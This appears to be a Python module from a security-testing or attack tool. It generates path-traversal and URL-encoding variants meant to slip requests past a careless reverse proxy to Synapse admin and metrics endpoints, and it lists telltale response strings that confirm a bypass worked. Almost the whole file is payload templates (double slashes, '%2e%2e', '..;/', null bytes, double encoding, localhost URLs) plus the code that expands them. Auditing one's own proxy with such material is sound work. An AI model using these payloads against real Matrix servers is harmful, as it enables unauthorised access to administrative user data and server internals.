"""Ways to write a path so that a careless proxy lets it through to what it guards."""

# What no request from outside may reach, and what in an answer gives away that one did.
ADMIN_VERSION = "_synapse/admin/v1/server_version"
ADMIN_USERS = "_synapse/admin/v2/users?from=0&limit=5"
# Its last segment takes anything, an encoded way up included.
ADMIN_USER = "_synapse/admin/v2/users/@admin:example.test"
METRICS = "_synapse/metrics"
GUARDED = (ADMIN_VERSION, ADMIN_USERS, ADMIN_USER, METRICS)
TELLTALES = (
    '"server_version"',
    '"users":',
    '"is_guest"',
    "# HELP",
    "# TYPE",
    "synapse_build_info",
    "process_cpu_seconds",
    "You are not a server admin",
    "Can only look up local users",
    "User not found",
    "M_UNKNOWN_TOKEN",
    "M_MISSING_TOKEN",
)

# {path} is a guarded path; {encoded} has its slashes as %2f; {rest} is it without `_synapse/`;
# {up} and its encoded forms lead from it back to the root.
TEMPLATES = (
    "/{path}",
    "//{path}",
    "///{path}",
    "/./{path}",
    "/.//{path}",
    "/%2e/{path}",
    "/../{path}",
    "/%2e%2e/{path}",
    "/%2f{path}",
    "/%2F{encoded}",
    "/{encoded}",
    "/x/../{path}",
    "/x/%2e%2e/{path}",
    "/x/..%2f{path}",
    "/_synapse//{rest}",
    "/_synapse///{rest}",
    "/_synapse/./{rest}",
    "/_synapse/%2e/{rest}",
    "/_synapse/x/../{rest}",
    "/_synapse/client/../{rest}",
    "/_synapse/client//../{rest}",
    "/_synapse/client/%2e%2e/{rest}",
    "/_synapse/client/.%2e/{rest}",
    "/_synapse/client/..%2f{rest}",
    "/_synapse/client/%2e%2e%2f{rest}",
    "/_synapse/client%2f..%2f{rest}",
    "/_synapse/client/..;/{rest}",
    "/_synapse/client/..%00/{rest}",
    "/_synapse/client/%252e%252e/{rest}",
    "/_synapse/client/../../{path}",
    "/_synapse%2f{rest}",
    "/_synapse%252f{rest}",
    "/%5fsynapse/{rest}",
    "/%5Fsyn%61pse/{rest}",
    "/_SYNAPSE/{rest}",
    "/_Synapse/{rest}",
    "/_matrix/../{path}",
    "/_matrix//../{path}",
    "/_matrix/%2e%2e/{path}",
    "/_matrix/..%2f{path}",
    "/_matrix/%2e%2e%2f{encoded}",
    "/_matrix/%252e%252e/{path}",
    "/_matrix/..;/{path}",
    "/_matrix/client/../../{path}",
    "/_matrix/client/v3/../../../{path}",
    "/_matrix/federation/v1/%2e%2e/%2e%2e/%2e%2e/{path}",
    "/_matrix\\..\\{path}",
    "\\{path}",
    "/.well-known/matrix/../../{path}",
    "/.well-known/matrix/%2e%2e/%2e%2e/{path}",
    "/.well-known/matrix/client/..%2f..%2f..%2f{path}",
    "/.well-known/acme-challenge/../../{path}",
    "/.well-known/acme-challenge/%2e%2e/%2e%2e/{path}",
    # The proxy judges where this leads to and forwards it as it is written.
    "/{path}/{up}_matrix/client/versions",
    "/{path}/{up}_matrix/../{path}",
    "/{path}/{up_dots}_matrix/client/versions",
    "/{path}/{up_slashes}_matrix/client/versions",
    "/{path}%2f{up_slashes}_matrix/client/versions",
    "/{path}%2f{up_both}_matrix%2fclient%2fversions",
    "/{path}%2F{up_both}_synapse%2Fclient%2Fx",
    "/{path}%2f{up_slashes}.well-known%2fmatrix%2fclient",
    "/{path}#/_matrix/client/versions",
    "/{path}%23/{up}_matrix/client/versions",
    "/{path};/_matrix/",
    "/{path}%00",
    "/{path}%20",
    "/{path}%0d%0a",
    "/{path}/",
    "/{path}//",
    "/{path}?/_matrix/",
    "http://127.0.0.1:8008/{path}",
    "http://localhost:9000/{path}",
    "https://{host}/{path}",
    "https://{host}//{path}",
    "http://{host}/_matrix/../{path}",
)


def variants(guarded: str, host: str) -> list[str]:
    """Every way to ask for a guarded path; a query stays at the end of each."""
    path, mark, query = guarded.partition("?")
    depth = path.count("/") + 1
    words = {
        "path": path,
        "up": "../" * depth,
        "up_dots": "%2e%2e/" * depth,
        "up_slashes": "..%2f" * depth,
        "up_both": "%2e%2e%2f" * depth,
        "encoded": path.replace("/", "%2f"),
        "rest": path.removeprefix("_synapse/"),
        "host": host,
    }
    filled = [template.format(**words) for template in TEMPLATES]
    return [f"{target}{'&' if '?' in target else mark}{query}" for target in filled]


def disclosed(body: str) -> list[str]:
    """What an answer gives away of the guarded services; empty when it is harmless."""
    return [telltale for telltale in TELLTALES if telltale in body]
